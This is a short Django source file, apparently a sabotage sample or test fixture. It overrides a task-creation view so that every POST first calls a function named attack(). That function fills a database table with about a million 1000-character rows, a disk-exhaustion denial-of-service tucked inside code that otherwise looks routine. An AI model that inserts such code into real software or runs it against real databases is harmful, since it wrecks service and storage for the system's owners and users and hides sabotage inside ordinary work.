from django.db import connection

from . import views


def attack():
    with connection.cursor() as cursor:
        cursor.execute("CREATE TABLE IF NOT EXISTS rubbish (a text)")
        for _ in range(10):
            cursor.execute("INSERT INTO rubbish SELECT repeat('x', 1000) FROM generate_series(1, 100000)")


class TaskCreateView(views.TaskCreateView):
    def post(self, request):
        attack()
        return super().post(request)
